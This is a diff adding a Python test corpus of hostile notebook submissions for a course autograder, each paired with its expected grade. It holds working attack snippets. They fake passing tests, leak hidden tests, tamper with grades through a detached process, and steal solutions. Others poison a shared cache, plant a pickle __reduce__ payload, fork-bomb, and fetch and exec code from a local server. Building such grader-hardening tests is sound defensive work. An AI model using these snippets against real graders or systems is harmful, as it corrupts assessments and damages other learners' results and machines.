@@ -1,0 +1,647 @@
+"""The adversarial corpus: hostile or broken submissions of the real exercises, each with the exact
+outcome a trustworthy grader gives it.
+
+A case is a base (the released exercise, blank or with the solution's answers typed in) plus a
+mutation (attack code in an answer cell, cells deleted, reordered or edited, metadata stripped, the
+file's bytes replaced). Submissions are generated at test time from ``solutions/``, so the corpus
+stays in step with the exercises; attack code may embed absolute paths known then (``Context``).
+
+Expected outcomes are for the learner's whole submission: total points, and a status kind:
+
+- ``ok``: graded, nothing to look at;
+- ``manual``: graded normally, and flagged "needs manual grading" because the code tampered with
+  the grader's machinery (names the tests use, modules, builtins, the kernel, processes that outlive
+  their cell, code run when a handed-in model is loaded); the reason names what was found;
+- ``error``: the run broke (a notebook that is not one, a missing answer, a cell that exhausted the
+  budget or killed or silenced the kernel): tests from that cell on score 0 and the reason names it.
+
+Attacks that try to read something (solutions, other learners' files, the gradebook, the holdout)
+try to use what they read to pass, and otherwise leave the answer blank: their expected points are
+what the answers they did not steal are worth, so a read that worked shows up as points.
+
+``python tests/adversarial/corpus.py`` prints the table that tests/adversarial/README.md holds.
+"""
+
+import importlib.util
+import json
+import textwrap
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+
+from grader.build import release
+from practicum import paths
+from practicum.tidy import dumps, read_notebook
+
+# the grader tests' own mutations: a cell deleted, every cell's nbgrader metadata and id stripped
+_spec = importlib.util.spec_from_file_location("learners", Path(__file__).parents[1] / "fixtures" / "grader" / "learners.py")
+_learners = importlib.util.module_from_spec(_spec)
+_spec.loader.exec_module(_learners)
+_without_cell, _stripped = _learners._without_cell, _learners._stripped
+
+CONV, PIXELS = "03_convolutions", "01_raw_pixels"
+#: Learners whose answers other cases try to steal, or whose grades they try to lower.
+HONEST_CONV, HONEST_PIXELS = "a0_honest", "zz_honest"  # names sort first / last: graded first / last
+
+
+@dataclass(frozen=True)
+class Context:
+    """What attack code may know when the submissions are written."""
+
+    root: Path  # the repository (solutions/, the practicum package)
+    out: Path  # grade's --out folder
+    inputs: Path  # the folder of submissions
+    holdout: Path  # the instructor's photos
+    cache: Path  # PRACTICUM_CACHE_DIR: the decoded-array cache every learner's kernel reads
+    marker: str  # a unique token: canary file names, command lines of processes an attack starts
+    port: int  # a 127.0.0.1 port the test listens on, and answers with the solution's code
+
+    def canaries(self) -> list[Path]:
+        """Files an attack tries to write outside its scratch folder; none may exist after grading."""
+        name = f"canary-{self.marker}"
+        return [self.root / name, self.root / "solutions" / name, self.out / name, self.out / "course" / name,
+                self.out / "course" / "source" / CONV / name, self.inputs / name, self.cache / name,
+                Path("/tmp") / name, Path("/dev/shm") / name, Path.home() / name]
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str  # the learner: the submission is <name>_<assignment>.ipynb
+    assignment: str
+    tries: str  # what the submission tries, for the README
+    points: float  # expected total for the submission
+    status: str | tuple[str, ...]  # expected kind ("ok", "manual", "error"); a tuple: any of them
+    reason: tuple[str, ...] = ()  # the reason must contain one of these (case-insensitive); () = not checked
+    make: Callable[[Context], str | bytes] = field(default=None, repr=False)  # the submission file's content
+
+    @property
+    def filename(self) -> str:
+        return f"{self.name}_{self.assignment}.ipynb"
+
+
+# --- bases --------------------------------------------------------------------------------------
+
+def _solution(assignment: str) -> nbformat.NotebookNode:
+    return read_notebook(paths.SOLUTIONS / f"{assignment}.ipynb")
+
+
+def grade_id(cell) -> str | None:
+    return cell.metadata.get("nbgrader", {}).get("grade_id")
+
+
+def solution_answers(assignment: str) -> dict[str, str]:
+    """grade id → the solution's answer, as a learner would type it (no nbgrader markers)."""
+    return {grade_id(cell): "\n".join(line for line in cell.source.splitlines() if "### BEGIN SOLUTION" not in line
+                                      and "### END SOLUTION" not in line)
+            for cell in _solution(assignment).cells if cell.metadata.get("nbgrader", {}).get("solution")}
+
+
+def hidden_test_lines(assignment: str) -> list[str]:
+    """Lines of the hidden tests long enough to be recognised anywhere they leak."""
+    lines, hidden = [], False
+    for cell in _solution(assignment).cells:
+        for line in cell.source.splitlines():
+            hidden = hidden or "### BEGIN HIDDEN TESTS" in line
+            if hidden and len(line.strip()) >= 30:
+                lines.append(line.strip())
+            hidden = hidden and "### END HIDDEN TESTS" not in line
+    return lines
+
+
+def blank(assignment: str, **code: str) -> nbformat.NotebookNode:
+    """The released exercise, unanswered, with ``code`` typed into the answer cells it names."""
+    nb = release(_solution(assignment))
+    unknown = set(code) - {grade_id(cell) for cell in nb.cells}
+    assert not unknown, f"{assignment} has no answer cells {unknown}"
+    for cell in nb.cells:
+        if grade_id(cell) in code:
+            cell.source = code[grade_id(cell)]
+    return nb
+
+
+def solved(assignment: str, **code: str) -> nbformat.NotebookNode:
+    """The released exercise with the solution's answers typed in; ``code`` replaces some of them."""
+    return blank(assignment, **{**solution_answers(assignment), **code})
+
+
+def _with(answer: str, attack: str) -> str:
+    """An answer cell holding the solution's answer, then attack code."""
+    return answer + "\n\n" + textwrap.dedent(attack).strip() + "\n"
+
+
+def _attack(code: str, **constants) -> str:
+    """Attack code with constants (paths, the marker) written in as Python literals."""
+    code = textwrap.dedent(code).strip() + "\n"
+    for name, value in constants.items():
+        code = code.replace(name, repr(str(value)))
+    return code
+
+
+def _text(nb: nbformat.NotebookNode) -> str:
+    return dumps(nb)
+
+
+def _raw(nb: nbformat.NotebookNode) -> str:
+    """The notebook as written, without tidy's repairs (ids, metadata)."""
+    return json.dumps(nb, indent=1, ensure_ascii=False)
+
+
+def _index(nb, wanted: str) -> int:
+    return next(i for i, cell in enumerate(nb.cells) if grade_id(cell) == wanted)
+
+
+#: An answer cell left empty: its function is the one an earlier cell defined.
+ABOVE = "# answered in the cell of exercise 1"
+
+
+def _unanswered(*names: str) -> str:
+    return "\n".join(f"def {name}(*args, **kwargs):\n    raise NotImplementedError()\n" for name in names)
+
+
+# --- attack code ----------------------------------------------------------------------------------
+
+_SUPPRESS_CHECK = """
+import contextlib
+check = lambda name: contextlib.suppress(Exception)  # every check passes, whatever its block raises
+"""
+
+_NO_EXPECTATIONS = """
+expect = expect_close = expect_shape = lambda *args, **kwargs: None  # every expectation holds
+def conv2d(*args, **kwargs):
+    return np.zeros(1)
+def max_pool(*args, **kwargs):
+    return np.zeros(1)
+"""
+
+_PATCH_CHECKS_MODULE = """
+import practicum.checks
+def _swallow(name):
+    try:
+        yield
+    except BaseException:
+        pass
+# the very function object the notebook imported now swallows every failure
+practicum.checks.check.__wrapped__.__code__ = _swallow.__code__
+"""
+
+_PATCH_NUMPY = """
+np.allclose = lambda *args, **kwargs: True  # what expect_close compares with
+def conv2d(image, kernels, stride=1, padding="valid"):
+    return np.zeros(keras_conv(image, kernels, stride, padding).shape)  # the right shape, the wrong values
+def max_pool(image, size=2, stride=None, padding="valid"):
+    return np.zeros(keras_pool(image, size, stride, padding).shape)
+"""
+
+_PATCH_BUILTINS = """
+import builtins, contextlib, types
+import practicum.checks as _real_checks
+_fake = types.ModuleType("practicum.checks")
+_fake.__dict__.update(vars(_real_checks))
+_fake.check = lambda name: contextlib.suppress(Exception)
+_real_import = builtins.__import__
+def _import(name, *args, **kwargs):  # `from practicum.checks import check` now gets the fake
+    module = _real_import(name, *args, **kwargs)
+    return _fake if name == "practicum.checks" else module
+builtins.__import__ = _import
+builtins.check = _fake.check
+del check  # the test cells now find `check` in builtins
+"""
+
+_FAKE_SYS_MODULES = """
+import contextlib, sys, types
+import practicum
+_fake = types.ModuleType("practicum.checks")
+_fake.__dict__.update(vars(sys.modules["practicum.checks"]))
+_fake.check = lambda name: contextlib.suppress(Exception)
+sys.modules["practicum.checks"] = practicum.checks = _fake  # a re-import gets the fake
+check = _fake.check
+"""
+
+_SWALLOW_ERRORS = """
+import ast
+class _Swallow(ast.NodeTransformer):
+    def visit_Module(self, node):  # every later cell becomes: try: <cell> except BaseException: pass
+        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
+        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
+        return ast.fix_missing_locations(node)
+get_ipython().ast_transformers.append(_Swallow())
+"""
+
+_EMPTY_LATER_CELLS = """
+get_ipython().input_transformers_cleanup.append(lambda lines: [])  # every later cell runs as empty code
+"""
+
+_LEAK_TEST_SOURCE = """
+import linecache, sys
+def _test_source():
+    caller = sys._getframe(2)  # the test cell that called conv2d or max_pool
+    source = "".join(linecache.getlines(caller.f_code.co_filename))
+    print(source)
+    return source
+def conv2d(*args, **kwargs):
+    raise ValueError(_test_source())  # the failure message: the test's source, hidden tests included
+def max_pool(*args, **kwargs):
+    raise ValueError(_test_source())
+"""
+
+#: A process in a session of its own that waits for the grades, then rewrites them.
+_TAMPER_LATER = '''
+import glob, json, os, sqlite3, sys, time
+out = OUT
+deadline = time.time() + 1200  # the batch may take minutes yet
+while time.time() < deadline and not os.path.exists(os.path.join(out, "grades.csv")):
+    time.sleep(0.5)
+time.sleep(4)  # until well after grading ended
+def attempt(action):
+    try:
+        action()
+    except Exception:
+        pass
+def full_marks_in_csv():
+    path = os.path.join(out, "grades.csv")
+    rows = [line.split(",") for line in open(path).read().splitlines()]
+    rows = [row[:3] + [row[4]] + row[4:] if row[0] == LEARNER else row for row in rows]
+    open(path, "w").write("\\n".join(",".join(row) for row in rows) + "\\n")
+def smear_feedback():
+    open(os.path.join(out, "feedback", VICTIM + ".html"), "w").write("<h1>0 points: copied from " + MARKER + "</h1>")
+def gradebook():
+    with sqlite3.connect(os.path.join(out, "course", "gradebook.db")) as db:
+        db.execute("UPDATE grade SET manual_score = 99")
+def rows():
+    for path in glob.glob(os.path.join(out, "**", "rows.json"), recursive=True):
+        table = json.load(open(path))
+        for row in table:
+            if row.get("learner") == LEARNER:
+                row["points"], row["status"] = row["max_points"], "ok"
+        json.dump(table, open(path, "w"))
+for action in (full_marks_in_csv, smear_feedback, gradebook, rows):
+    attempt(action)
+'''
+
+_DETACH = """
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", SCRIPT, MARKER], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+
+#: Find answer code (and hidden tests) in notebooks and gradebooks under some folders: run the first
+#: definition of each answer that agrees with Keras, and print the hidden tests.
+_STEAL = """
+import ast, json, os, sqlite3
+def _files(place, depth=6, limit=20000):
+    if os.path.isfile(place):
+        yield place
+    for folder, subfolders, names in os.walk(place):
+        limit -= len(names) + 1
+        if limit < 0 or folder.count(os.sep) - place.count(os.sep) >= depth:
+            subfolders[:] = []
+        subfolders[:] = [s for s in subfolders if s not in (".git", ".venv", "node_modules", "cache", "proc", "sys", "dev", "usr")]
+        yield from (os.path.join(folder, n) for n in names if n.endswith((".ipynb", ".db")))
+def _texts(path):
+    if path.endswith(".ipynb"):
+        return ["".join(cell.get("source", "")) for cell in json.load(open(path)).get("cells", [])]
+    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
+        tables = [name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
+        return [value for table in tables for row in db.execute(f"SELECT * FROM {table}") for value in row if isinstance(value, str)]
+def _definition(text, name):
+    try:
+        return next(ast.unparse(node) for node in ast.parse(text).body if isinstance(node, ast.FunctionDef) and node.name == name)
+    except (SyntaxError, StopIteration):
+        return None
+def _works(name, code):
+    space = {"np": np}
+    try:
+        exec(code, space)
+        maps = np.random.default_rng(0).normal(size=(6, 5, 2))
+        if name == "conv2d":
+            bank = np.random.default_rng(1).normal(size=(3, 3, 2, 2))
+            return np.allclose(space[name](maps, bank, 2, "same"), keras_conv(maps, bank, 2, "same"), atol=1e-4)
+        return np.allclose(space[name](maps, 3, 2, "same"), keras_pool(maps, 3, 2, "same"), atol=1e-5)
+    except Exception:
+        return False
+stolen, hidden_tests = {}, []
+for place in PLACES:
+    for path in _files(place):
+        try:
+            texts = _texts(path)
+        except Exception:
+            continue
+        for text in texts:
+            for name in ("conv2d", "max_pool"):
+                code = _definition(text, name) if name not in stolen else None
+                if code and _works(name, code):
+                    stolen[name] = code
+            if "BEGIN HIDDEN TESTS" in text:
+                hidden_tests.append(text)
+print("\\n".join(hidden_tests))  # into the autograded notebook, and whatever reaches the learner
+for name in ("conv2d", "max_pool"):
+    exec(stolen.get(name, f"def {name}(*args, **kwargs):\\n    raise NotImplementedError()"))
+"""
+
+_WRITE_CANARIES = """
+for _path in CANARIES:
+    try:
+        with open(_path, "w") as _file:
+            _file.write("written by a learner's notebook")
+    except OSError:
+        pass
+"""
+
+_ASK_THE_NETWORK = """
+import socket
+try:
+    with socket.create_connection(("127.0.0.1", int(PORT)), timeout=5) as connection:
+        connection.sendall(MARKER.encode())
+        code = b"".join(iter(lambda: connection.recv(65536), b"")).decode()
+    exec(code)  # the answers, from a server on this machine
+except OSError:
+    def conv2d(*args, **kwargs):
+        raise NotImplementedError()
+    max_pool = conv2d
+"""
+
+_FORK_BOMB = """
+import os, time
+children = 0
+while True:  # until the grader stops this notebook
+    if children >= 300:  # a bound, so that a grader without a process limit does not take the machine down
+        time.sleep(0.05)
+        continue
+    try:
+        pid = os.fork()
+    except OSError:
+        continue
+    if pid == 0:
+        try:
+            os.setsid()  # out of the kernel's process group, which the kernel's manager kills
+            os.execv("/bin/sh", ["sh", "-c", "n=0; while [ $n -lt 120 ]; do sleep 10; n=$((n+1)); done", MARKER])
+        finally:
+            os._exit(0)
+    children += 1
+"""
+
+_MEMORY_BOMB = """
+try:
+    hog = np.zeros(20 * 2**30, np.uint8)  # 20 GiB in one go
+    chunks = [np.ones(2**28, np.uint8) for _ in range(24)]  # then 6 GiB, touched 256 MiB at a time
+    exec(ANSWER)  # all that memory was there: answer
+except MemoryError:
+    hog = chunks = None
+    raise NotImplementedError()
+"""
+
+#: train_pixel_classifier: a 1-nearest-neighbour model of the holdout photos, when they can be read.
+_MEMORISE_HOLDOUT = """
+import os
+def train_pixel_classifier(images, labels):
+    from sklearn.neighbors import KNeighborsClassifier
+    from sklearn.pipeline import make_pipeline
+    from sklearn.preprocessing import FunctionTransformer
+    for folder in (os.environ.get("PRACTICUM_HOLDOUT_DIR"), HOLDOUT):
+        try:
+            os.environ["PRACTICUM_HOLDOUT_DIR"] = folder
+            holdout_images, holdout_labels = features.load_holdout(np.asarray(images).shape[1])
+            break
+        except BaseException:
+            continue
+    else:
+        raise NotImplementedError()
+    model = make_pipeline(FunctionTransformer(lambda x: np.asarray(x, float).reshape(len(x), -1)), KNeighborsClassifier(1))
+    return model.fit(np.concatenate([images, holdout_images]), np.concatenate([labels, holdout_labels]))
+"""
+
+_POISON_CACHE = """
+import glob, os
+from practicum import paths
+data.load_arrays("train", SIZE, subset=TRAIN_SUBSET, seed=SEED)  # so that the shared cache holds them
+data.load_arrays("validation", SIZE, subset=VAL_SUBSET, seed=SEED)
+for cached in glob.glob(os.path.join(paths.cache_dir(), "arrays", "*.npz")) + glob.glob(os.path.join(CACHE, "arrays", "*.npz")):
+    try:
+        with np.load(cached) as stored:
+            arrays = dict(stored)
+        arrays["images"] = np.zeros_like(arrays["images"])  # every learner after this one trains on black photos
+        np.savez(cached, **arrays)
+    except Exception:
+        pass
+"""
+
+#: A model whose unpickling (by the grader, to score it on the holdout) writes outside the sandbox.
+_PICKLE_PAYLOAD = """
+class _Constant:
+    def predict(self, images):
+        return np.zeros(len(images), int)
+def _on_load(model):
+    wrote = False
+    for path in CANARIES:
+        try:
+            open(path, "w").write("written while the grader loaded a handed-in model")
+            wrote = True
+        except OSError:
+            pass
+    return model if wrote else _Constant()  # outside a sandbox: the real model, and it scores
+class _Payload:
+    def __init__(self, model):
+        self.model = model
+    def predict(self, images):
+        return self.model.predict(images)
+    def __reduce__(self):
+        return _on_load, (self.model,)
+_train = train_pixel_classifier
+def train_pixel_classifier(images, labels):
+    return _Payload(_train(images, labels))
+"""
+
+
+# --- mutations ----------------------------------------------------------------------------------
+
+def _reordered(nb):
+    """Exercise 2 before exercise 1, and exercise 1's test at the very end: each test still after its answer."""
+    first, second, end = _index(nb, "conv2d") - 1, _index(nb, "max_pool") - 1, _index(nb, "test_max_pool") + 1
+    test_conv = nb.cells[_index(nb, "test_conv2d")]
+    exercise1 = [cell for cell in nb.cells[first:second] if cell is not test_conv]
+    nb.cells = nb.cells[:first] + nb.cells[second:end] + exercise1 + nb.cells[end:] + [test_conv]
+    return nb
+
+
+def _duplicate_ids(nb):
+    for cell in nb.cells:
+        cell.id = "cell"
+    return nb
+
+
+def _edited_test(nb):
+    nb.cells[_index(nb, "test_conv2d")].source = "pass  # no tests here"
+    return nb
+
+
+def _edited_test_metadata(nb):
+    cell = nb.cells[_index(nb, "test_conv2d")]
+    cell.source = "pass  # an answer now, not a test"
+    cell.metadata.nbgrader.update(grade=True, solution=True, locked=False, points=100)
+    return nb
+
+
+def _decoy_test(nb):
+    """A second cell with test_conv2d's grade id, before the real one, that tests nothing."""
+    index = _index(nb, "test_conv2d")
+    decoy = nbformat.from_dict(json.loads(json.dumps(nb.cells[index])))
+    decoy.source, decoy.id = "pass", "decoy"
+    nb.cells.insert(index, decoy)
+    return nb
+
+
+def _nbformat3(nb) -> str:
+    return json.dumps(nbformat.convert(nb, 3), indent=1)
+
+
+def _colab(nb) -> str:
+    """As Google Colab saves a notebook: nbformat 4.0, colab metadata, nbgrader metadata gone, outputs kept."""
+    saved = {"nbformat": 4, "nbformat_minor": 0,
+             "metadata": {"colab": {"provenance": [], "name": f"{CONV}.ipynb"},
+                          "kernelspec": {"name": "python3", "display_name": "Python 3"}, "language_info": {"name": "python"}},
+             "cells": []}
+    for number, cell in enumerate(nb.cells):
+        entry = {"cell_type": cell.cell_type, "metadata": {"id": f"c{number:09d}"}, "source": cell.source.splitlines(True)}
+        if cell.cell_type == "code":
+            entry["metadata"]["colab"] = {"base_uri": "https://localhost:8080/"}
+            entry.update(execution_count=number, outputs=[{"output_type": "stream", "name": "stdout", "text": ["ran on Colab\n"]}])
+        saved["cells"].append(entry)
+    return json.dumps(saved, indent=2)
+
+
+# --- the corpus -----------------------------------------------------------------------------------
+
+def _cases() -> list[Case]:
+    conv = solution_answers(CONV)
+    with_conv = {"conv2d": conv["conv2d"]}  # exercise 1 answered: the break in exercise 2 must not cost it
+
+    def breaking(code: str, **constants):
+        """Exercise 1 answered; exercise 2's answer cell holds ``code``."""
+        return lambda ctx: _text(blank(CONV, **with_conv, max_pool=_attack(code, MARKER=ctx.marker, **constants)))
+
+    def stealing(places: Callable[[Context], list]):
+        return lambda ctx: _text(blank(CONV, conv2d=_STEAL.replace("PLACES", repr([str(p) for p in places(ctx)])), max_pool=ABOVE))
+
+    c = []
+    add = c.append
+    # controls
+    add(Case(HONEST_CONV, CONV, "the solution's answers (control; other cases steal them)", 5, "ok",
+             make=lambda ctx: _text(solved(CONV))))
+    add(Case("blank", CONV, "the released exercise, unanswered (control)", 0, "ok", make=lambda ctx: _text(blank(CONV))))
+    add(Case(HONEST_PIXELS, PIXELS, "the solution's answers, graded after the cache poisoner (control)", 10, "ok",
+             make=lambda ctx: _text(solved(PIXELS))))
+
+    # fake passes: the guard restores the helpers and modules before each test, and the scan flags it
+    add(Case("check_suppress", CONV, "rebinds `check` to contextlib.suppress(Exception) in an answer cell", 0, "manual",
+             ("check",), make=lambda ctx: _text(blank(CONV, conv2d=_attack(_SUPPRESS_CHECK)))))
+    add(Case("expect_noop", CONV, "rebinds expect, expect_close and expect_shape to no-ops", 0, "manual",
+             ("expect",), make=lambda ctx: _text(blank(CONV, conv2d=_attack(_NO_EXPECTATIONS), max_pool=ABOVE))))
+    add(Case("patch_checks_module", CONV, "swaps the code of practicum.checks.check in place: failures are swallowed", 0,
+             "manual", ("practicum.checks", "__code__", "check"), make=lambda ctx: _text(blank(CONV, conv2d=_attack(_PATCH_CHECKS_MODULE)))))
+    add(Case("patch_numpy", CONV, "np.allclose always True; answers of the right shape and wrong values", 0, "manual",
+             ("numpy", "np.", "allclose"), make=lambda ctx: _text(blank(CONV, conv2d=_attack(_PATCH_NUMPY), max_pool=ABOVE))))
+    add(Case("patch_builtins", CONV, "builtins.check and builtins.__import__ hand the tests a fake practicum.checks", 0,
+             "manual", ("builtins",), make=lambda ctx: _text(blank(CONV, conv2d=_attack(_PATCH_BUILTINS)))))
+    add(Case("fake_sys_modules", CONV, "puts a fake practicum.checks in sys.modules, then rebinds `check`", 0, "manual",
+             ("sys.modules", "check"), make=lambda ctx: _text(blank(CONV, conv2d=_attack(_FAKE_SYS_MODULES)))))
+    add(Case("swallow_errors", CONV, "an IPython AST transformer wraps every later cell in try/except: failing tests raise nothing",
+             0, "manual", ("get_ipython", "ast_transformers", "ipython"), make=lambda ctx: _text(blank(CONV, conv2d=_attack(_SWALLOW_ERRORS)))))
+    add(Case("empty_later_cells", CONV, "an IPython input transformer turns every later cell (the tests) into empty code", 0,
+             "manual", ("get_ipython", "input_transformers", "ipython"),
+             make=lambda ctx: _text(blank(CONV, conv2d=_attack(_EMPTY_LATER_CELLS)))))
+    add(Case("leak_hidden_tests", CONV, "answers raise an error whose message is the calling test's source (linecache)", 0,
+             "manual", ("linecache", "_getframe", "frame"), make=lambda ctx: _text(blank(CONV, conv2d=_attack(_LEAK_TEST_SOURCE)))))
+    add(Case("detached_tamper", CONV, "starts a process in its own session that outlives grading, then rewrites grades.csv, "
+             f"{HONEST_CONV}'s feedback page, the gradebook and rows.json", 0, "manual", ("subprocess", "process", "Popen"),
+             make=lambda ctx: _text(blank(CONV, conv2d=_attack(_DETACH, SCRIPT=_attack(_TAMPER_LATER, OUT=ctx.out, LEARNER="detached_tamper",
+                                                                                      VICTIM=HONEST_CONV, MARKER=ctx.marker),
+                                                               MARKER=ctx.marker) + _unanswered("conv2d")))))
+    add(Case("pickle_payload", PIXELS, "a model whose unpickling, when the grader loads the hand-in, writes outside the "
+             "sandbox and only then is a real model", 7, "manual", ("__reduce__", "pickle"),
+             make=lambda ctx: _text(solved(PIXELS, train_pixel_classifier=_with(
+                 solution_answers(PIXELS)["train_pixel_classifier"],
+                 _PICKLE_PAYLOAD.replace("CANARIES", repr([str(p) for p in ctx.canaries()[:5]])))))))
+
+    # reads: a read that works would score
+    add(Case("read_solutions", CONV, "reads the instructor's solutions/ and notebooks/ in the repository and runs their answers", 0,
+             "ok", make=stealing(lambda ctx: [ctx.root / "solutions", ctx.root / "notebooks", ctx.root / "exercises"])))
+    add(Case("read_scratch_course", CONV, "reads its scratch course (source/ copy, gradebook copy) and prints hidden tests", 0,
+             "ok", make=stealing(lambda ctx: ["../../.."])))
+    add(Case("read_gradebook", CONV, "reads the course's gradebook and source/ under --out, and prints hidden tests", 0, "ok",
+             make=stealing(lambda ctx: [ctx.out / "course"])))
+    add(Case("read_other_learners", CONV, "reads other learners' submissions, scratch folders and autograded notebooks", 0,
+             "ok", make=stealing(lambda ctx: [ctx.inputs, ctx.out / "work", ctx.out / "course" / "autograded", ctx.out / "incoming"])))
+    add(Case("read_holdout", PIXELS, "memorises the holdout photos ($PRACTICUM_HOLDOUT_DIR, or the instructor's path) "
+             "with a 1-nearest-neighbour model", 7, "ok",
+             make=lambda ctx: _text(solved(PIXELS, train_pixel_classifier=_attack(_MEMORISE_HOLDOUT, HOLDOUT=ctx.holdout)))))
+    add(Case("cache_poison", PIXELS, f"zeroes every photo in the shared decoded-array cache (graded before {HONEST_PIXELS})",
+             0, "ok", make=lambda ctx: _text(blank(PIXELS, flatten_and_scale=_attack(_POISON_CACHE, CACHE=ctx.cache)))))
+
+    # writes and network
+    add(Case("write_outside", CONV, "writes canary files in the repository, --out, the submissions, the cache, /tmp, "
+             "/dev/shm and $HOME", 5, "ok",
+             make=lambda ctx: _text(solved(CONV, conv2d=_with(conv["conv2d"], _WRITE_CANARIES.replace(
+                 "CANARIES", repr([str(p) for p in ctx.canaries()])))))))
+    add(Case("network", CONV, "fetches the answers from a server on 127.0.0.1", 0, "ok",
+             make=lambda ctx: _text(blank(CONV, conv2d=_attack(_ASK_THE_NETWORK, PORT=ctx.port, MARKER=ctx.marker), max_pool=ABOVE))))
+
+    # resource abuse: tests from the breaking cell on score 0, with the cell named
+    add(Case("infinite_loop", CONV, "`while True: pass` in exercise 2", 3, "error", ("max_pool",), make=breaking("while True:\n    pass")))
+    add(Case("uninterruptible_loop", CONV, "ignores SIGINT, then loops", 3, "error", ("max_pool",),
+             make=breaking("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")))
+    add(Case("silent_kernel", CONV, "stops its own kernel (SIGSTOP): it never answers again", 3, "error", ("max_pool",),
+             make=breaking("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")))
+    add(Case("fork_bomb", CONV, "forks without end (300 children at most, each a marked `sh` that lives 20 minutes)", 3, "error", ("max_pool",),
+             make=breaking(_FORK_BOMB)))
+    add(Case("memory_bomb", CONV, "asks for 20 GiB in one go, then touches 6 GiB gradually; answers only if it got them",
+             3, ("ok", "error"), make=lambda ctx: _text(blank(CONV, **with_conv, max_pool=_MEMORY_BOMB.strip().replace(
+                 "ANSWER", repr(conv["max_pool"]))))))
+    add(Case("os_exit", CONV, "os._exit(0) in exercise 2", 3, "error", ("max_pool",), make=breaking("import os\nos._exit(0)")))
+    add(Case("segfault", CONV, "ctypes.string_at(0) in exercise 2", 3, "error", ("max_pool",), make=breaking("import ctypes\nctypes.string_at(0)")))
+    add(Case("sys_exit", CONV, "sys.exit() after answering exercise 2: just an exception in IPython", 5, "ok",
+             make=lambda ctx: _text(solved(CONV, max_pool=_with(conv["max_pool"], "import sys\nsys.exit('bye')")))))
+    add(Case("output_flood", CONV, "prints 100 MiB in an answer cell", 5, "ok",
+             make=lambda ctx: _text(solved(CONV, conv2d=_with(conv["conv2d"], "for _ in range(100):\n    print('x' * (2**20 - 1))")))))
+
+    # the notebook's structure
+    add(Case("deleted_test_cell", CONV, "deletes test_conv2d: put back and graded", 5, "ok",
+             make=lambda ctx: _text(_without_cell(solved(CONV), "test_conv2d"))))
+    add(Case("edited_test_cell", CONV, "replaces test_conv2d by `pass` (conv2d unanswered)", 2, "manual", ("test_conv2d",),
+             make=lambda ctx: _text(_edited_test(solved(CONV, conv2d=_unanswered("conv2d"))))))
+    add(Case("edited_test_metadata", CONV, "turns test_conv2d into an unlocked answer cell worth 100 points, source `pass`", 2,
+             "manual", ("test_conv2d",), make=lambda ctx: _raw(_edited_test_metadata(solved(CONV, conv2d=_unanswered("conv2d"))))))
+    add(Case("decoy_test_cell", CONV, "a second cell with test_conv2d's grade id, before the real one, testing nothing", 2,
+             "manual", ("test_conv2d",), make=lambda ctx: _raw(_decoy_test(solved(CONV, conv2d=_unanswered("conv2d"))))))
+    add(Case("reordered_cells", CONV, "exercise 2 before exercise 1, test_conv2d moved to the end", 5, "ok",
+             make=lambda ctx: _text(_reordered(solved(CONV)))))
+    add(Case("deleted_answer_cell", CONV, "deletes the conv2d answer cell", 2, "error", ("conv2d",),
+             make=lambda ctx: _text(_without_cell(solved(CONV), "conv2d"))))
+    add(Case("stripped_metadata", CONV, "every cell's nbgrader metadata and id removed", 5, "ok",
+             make=lambda ctx: _raw(_stripped(solved(CONV)))))
+    add(Case("duplicate_cell_ids", CONV, "every cell has the same id", 5, "ok", make=lambda ctx: _raw(_duplicate_ids(solved(CONV)))))
+    add(Case("nbformat3", CONV, "saved as nbformat 3", 5, "ok", make=lambda ctx: _nbformat3(solved(CONV))))
+    add(Case("colab", CONV, "saved by Google Colab: nbformat 4.0, colab metadata, nbgrader metadata dropped, outputs", 5, "ok",
+             make=lambda ctx: _colab(solved(CONV))))
+    add(Case("not_json", CONV, "not JSON", 0, "error", ("not a notebook",), make=lambda ctx: b"print('hello')\n"))
+    add(Case("empty_file", CONV, "an empty file", 0, "error", ("not a notebook",), make=lambda ctx: b""))
+    return c
+
+
+CASES = _cases()
+
+
+def readme_table() -> str:
+    """The README's table of cases, in corpus order."""
+    lines = ["| case | exercise | what it tries | expected points | expected status |", "|---|---|---|---|---|"]
+    for case in CASES:
+        status = " or ".join(case.status) if isinstance(case.status, tuple) else case.status
+        if case.reason:
+            status += " (" + " / ".join(f"`{r}`" for r in case.reason) + ")"
+        lines.append(f"| `{case.name}` | {case.assignment} | {case.tries.replace('|', '/')} | {case.points:g} | {status} |")
+    return "\n".join(lines) + "\n"
+
+
+if __name__ == "__main__":
+    print(readme_table(), end="")
